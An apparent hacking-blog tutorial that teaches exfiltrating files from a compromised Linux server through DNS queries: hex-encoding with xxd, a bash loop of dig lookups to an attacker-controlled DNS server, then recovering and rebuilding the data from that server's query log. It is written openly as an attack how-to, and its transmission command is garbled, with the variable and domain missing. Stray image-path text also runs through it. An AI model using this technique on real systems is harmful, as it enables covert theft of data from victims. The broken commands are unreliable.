Posted on by and filed under Hack All TheThings.

In this installment of Hack All The Things we will be discussing how to leverage DNS requests to exfiltrate data from a server. Note that while this is on on a Linux “victim” the same can be done in Windows using VBScript, Powershell, and even the fairly limited cmd.exe command prompt.

What is it?

While numerous methods of exfiltrating data exist to aid in the exfiltration of data during a plethora of scenarios, one method of exfiltration seems to work across the board : DNS Request-based Exfiltration. Leveraging remote controlled DNS servers an attacker can exfiltrate basically any data he wants from a compromised host.How does it work?

The idea is simple, encode your raw data, make dig requests to a remote server you control, parse the logs on the remote server and reassemble the file.

How to do it

There are four main steps to this technique: Conversion, Transmission, Recovery, Reassembly. Let’s go over these one-by-one while illustrating the workflow.


We’ve got to convert data over for a number of reasons but the biggest reason being size; sending a 4mb string as a DNS query is more than likely going to fail so we wanna get nice digestible chunks. Another good reason for converting is so that we can transfer purely binary data to exfiltrate even things like executables and the like. For this step I swear by the tool “xxd” which will take a file (or string) and convert it to nicely formatted hex.
10:17:28 [email protected]:[~/exfil]$ ls
total 8
drwxr-xr-x 3 connection staff 102B Feb 13 10:16 ./
drwxr-xr-x+ 206 connection staff 6.8K Feb 13 10:16 ../
-rw-r--r-- 1 connection staff 72B Feb 13 10:17 importantInfo.txt
10:17:30 [email protected]:[~/exfil]$ cat importantInfo.txt
Hack All The Things.
#[email protected]
I really hope no one steals this info :O
10:17:37 [email protected]:[~/exfil]$ xxd -p importantInfo.txt > exfilMe.hex
10:17:48 [email protected]:[~/exfil]$ head exfilMe.hex
Alright so in these command I’m simply showing the directory containing our file to be exfiltrated (named “importantInfo.txt”). The real magic happens with the ‘xxd’ command and I’ll break it down for you. The -p option tells xxd to dump out a continuous hex string without separating it with spaces or escape characters or anything funky like that. This is extremely useful as it allows us to fit the most data into a single chunk of info as possible. Next we use output redirection (the ‘>’ character) to save this output to a file called ‘exfilMe.hex’. Using the head command to view the first few lines of exfilMe.hex we can ensure that we infact have abunch of hex that represents the data in ‘importantInfo.txt’ Conversion is now done, let’s move to…


This is one of my two favorite steps in this entire process, offloading the data to a remote server for collection. This next step is awesome because it leverages a quick little BASH script to send all our data over (if you haven’t been turned on to the pure awesomeness of BASH scripting yet you should go read BASH Scripting Will Save Your Life). Here is our script followed by an explanation.
for merp in `cat exfilMe.hex `; do dig $; done
What this does is iterates through every line in exfilMe.hex and assigns the line to the variable ‘merp’. The script then runs a ‘dig’ command (‘dig’ is used to make DNS request  lookups) to the current value of . Some things to note is that the ‘.exfil’ portion of the request is just something I use to help sort out exfiltrated data from normal DNS requests and you can change it to whatever you want; secondarily the “” portion is just there as I control that server, you would replace this with your own server information.


The recovery phase is in my opinion the worst phase for m in that I’m so close to having the data but I’m still one step away. Regardless, this step is the mostcrucial as without recovering the transmitted data all we effectively did was spam our own DNS server. Recovery is simple :
egrep -o "[0-9a-f]*" /var/log/query.log |cut -d. -f1 |uniq >> file.txt
Breaking this command down we understand how simple therecovery process really is. By using egrep (an alias of grep -E) we leverage the power of extended regex support in grep which allows us to use fun things like character ranges. In this case we are matching for the hex range of characters followed by ‘’ in the query.log file. We then use the ‘cut’ command to separate the hex data from the‘’ string. We use ‘uniq’ to ensure data maintains integrity as oftentimes a DNS query can be sent more than once if the sending server feels the request took too long. We then output this to file.txt for the next step,


This is hands-down my favorite part of this process, it lets me know I have my own copy of whatever juicy information I was trying to exfiltrate. This step is also extremely simple and leverages our old friend ‘xxd’ to convert hex back into it’s original data representation.
xxd -r -p < file.txt > gotEm
This command should seem mostly familiar but I’ll break it down incase it is unclear. Using the ‘-r’ flag of ‘xxd’ tells ‘xxd’ to reverse the process and basically “unhex” the data. We know the ‘-p’ flag just means that it’s a plain dump of hex with no fanciness thrown in. The next few commands may throw some people off so I’ll explain them as well. We know that ‘>’ outputs to a file so at the very least we know that our result will be in the file ‘gotEm’ but what does ‘<‘ do? Well, opposite to it’s outputting counterpart, ‘<‘ takes whatever you passed it and uses it as input. In this case it’staking the contents of file.txt and passing it to xxd for reassembly and then being output to gotEm.

The Great Reveal

And now ladies and gentlemen, boys and girls, the moment you’ve all been waiting for!
[email protected]:~/dnsExfil#cat gotEm
Hack All The Things.
#[email protected]
I really hope no one steals this info :O
It works!!!


CONVERT your file to hex using xxd TRANSMIT your file to a remote server using a BASH for-loop and the dig command RECOVER your data using grep REASSEMBLE your data using xxd I hope you’ve enjoyed this post andas always, Keep Your Hacks Up And Your Head Down™ ~connection